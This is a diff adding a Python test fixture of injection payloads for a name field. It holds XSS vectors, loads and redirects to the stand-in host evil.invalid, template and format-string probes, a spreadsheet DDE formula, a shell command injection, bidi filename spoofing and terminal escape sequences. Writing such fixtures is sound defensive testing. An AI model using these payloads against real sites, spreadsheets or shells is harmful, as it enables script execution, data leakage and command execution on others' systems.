@@ -1,0 +1,47 @@
+"""What somebody may put into a name to have a page do something: each as one string."""
+
+from __future__ import annotations
+
+MARK = "PWNED"  # what a script that ran would leave on `window`
+PAYLOADS: tuple[str, ...] = (
+    "<script>window.PWNED=1</script>",
+    "</script><script>window.PWNED=1</script>",
+    "</style><script>window.PWNED=1</script>",
+    "</title></textarea></pre></code><img src=x onerror=window.PWNED=1>",
+    '"><img src=x onerror=window.PWNED=1>',
+    "' onmouseover='window.PWNED=1' x='",
+    '" autofocus onfocus="window.PWNED=1',
+    "<svg onload=window.PWNED=1>",
+    "<svg><animate onbegin=window.PWNED=1 attributeName=x>",
+    "<iframe srcdoc='<script>parent.PWNED=1</script>'></iframe>",
+    "<a href=javascript:window.PWNED=1>x</a>",
+    "javascript:window.PWNED=1",
+    "<details open ontoggle=window.PWNED=1>",
+    "<style>*{background:url(https://evil.invalid/x)}</style>",
+    "<link rel=stylesheet href=https://evil.invalid/x.css>",
+    "<base href=https://evil.invalid/>",
+    "<form action=https://evil.invalid><button>x</button></form>",
+    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
+    "![x](https://evil.invalid/x.png)",
+    "[x](javascript:window.PWNED=1)",
+    "[x]: javascript:window.PWNED=1\n\n[x]",
+    "<https://evil.invalid>",
+    "$\\href{javascript:window.PWNED=1}{x}$",
+    "\n\n# A heading | x | y\n|---|---|",
+    "`</code><img src=x onerror=window.PWNED=1>`",
+    "````\n<script>window.PWNED=1</script>",
+    "{{7*7}}",
+    "{% raw %}${7*7}#{7*7}<%= 7*7 %>",
+    "{0.__class__}{name}%(x)s%s",
+    "url(javascript:window.PWNED=1)",
+    "]]><script>window.PWNED=1</script><!--",
+    "--><script>window.PWNED=1</script>",
+    "&lt;script&gt;window.PWNED=1&lt;/script&gt;&#60;img&#62;",
+    "\u202etxt.exe\u2066\u2069",
+    "a\x00b\x1b[2J\x1b]0;title\x07\x9b31m\r\x08",
+    "half \ud800 a character",
+    "=cmd|' /C calc'!A0",
+    "line\u2028line\u2029line",
+    "${IFS};touch /tmp/x;$(id)`id`",
+)
+EVERYTHING = " ".join(PAYLOADS)
